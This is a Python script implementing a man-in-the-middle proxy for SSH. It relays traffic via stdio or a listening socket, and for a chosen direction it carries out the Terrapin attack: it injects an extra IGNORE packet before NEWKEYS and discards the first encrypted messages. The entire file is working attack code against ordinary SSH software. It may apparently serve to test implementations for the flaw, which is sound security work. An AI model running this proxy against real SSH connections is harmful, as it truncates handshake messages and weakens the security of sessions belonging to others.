"""Stands between an SSH client and a server and passes everything on. With `to-server` or `to-client` it does to that direction of the first
key exchange what Terrapin does: one IGNORE more before NEWKEYS, and the first encrypted messages taken out.

middle.py stdio HOST PORT ATTACK
middle.py listen ADDRESS HOST PORT ATTACK
"""

import os
import socket
import struct
import sys
import threading
import time

NEWKEYS = 21
IGNORE = struct.pack(">IBBI", 12, 6, 2, 0) + bytes(6)


class Direction:
    def __init__(self, read, write):
        self.read, self.write = read, write
        self.seen = b""

    def need(self, count):
        while len(self.seen) < count:
            piece = self.read()
            if not piece:
                raise EOFError
            self.seen += piece

    def take(self, count):
        self.need(count)
        taken, self.seen = self.seen[:count], self.seen[count:]
        return taken

    def line(self):
        while b"\n" not in self.seen:
            self.need(len(self.seen) + 1)
        return self.take(self.seen.index(b"\n") + 1)

    def packet(self):
        self.need(4)
        return self.take(4 + struct.unpack(">I", self.seen[:4])[0])

    def exchange(self, attack, over, other):
        """Until the keys are new."""
        self.write(self.line())
        self.write(self.packet())
        if attack:
            self.write(IGNORE)
        while True:
            packet = self.packet()
            self.write(packet)
            if packet[5] == NEWKEYS:
                break
        if attack:
            # Whatever comes before the other side has said anything.
            until = time.monotonic() + 0.5
            taker = threading.Thread(target=self.swallow, args=(until,), daemon=True)
            taker.start()
            taker.join()
            over.set()
        else:
            other.wait(20)

    def swallow(self, until):
        self.seen = b""
        while time.monotonic() < until:
            piece = self.read(until - time.monotonic())
            if piece == b"":
                break

    def run(self, attack, over, other):
        try:
            self.exchange(attack, over, other)
            self.write(self.seen)
            while piece := self.read():
                self.write(piece)
        except (EOFError, OSError):
            pass
        over.set()
        self.write(None)


def of_socket(sock):
    def read(wait=None):
        sock.settimeout(max(wait, 0.001) if wait is not None else None)
        try:
            return sock.recv(65536)
        except TimeoutError:
            return None

    def write(data):
        try:
            sock.sendall(data) if data is not None else sock.shutdown(socket.SHUT_WR)
        except OSError:
            pass

    return read, write


def of_stdio():
    def read(wait=None):
        return os.read(0, 65536)

    def write(data):
        if data is None:
            os.close(1)
            return
        while data:
            data = data[os.write(1, data):]

    return read, write


def between(client, server, attack):
    done = {"to-server": threading.Event(), "to-client": threading.Event()}
    for name, event in done.items():
        if name != attack:
            event.set()
    threads = []
    for name, read, write in (("to-server", client[0], server[1]), ("to-client", server[0], client[1])):
        other = done["to-client" if name == "to-server" else "to-server"]
        work = Direction(read, write)
        threads.append(threading.Thread(target=work.run, args=(name == attack, done[name], other), daemon=True))
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()


if sys.argv[1] == "stdio":
    _, _, host, port, attack = sys.argv
    between(of_stdio(), of_socket(socket.create_connection((host, int(port)))), attack)
else:
    _, _, address, host, port, attack = sys.argv
    listener = socket.create_server((address, int(port)))
    print("listening", flush=True)
    while True:
        client, _ = listener.accept()
        server = socket.create_connection((host, int(port)))
        work = (of_socket(client), of_socket(server), attack)
        threading.Thread(target=between, args=work, daemon=True).start()
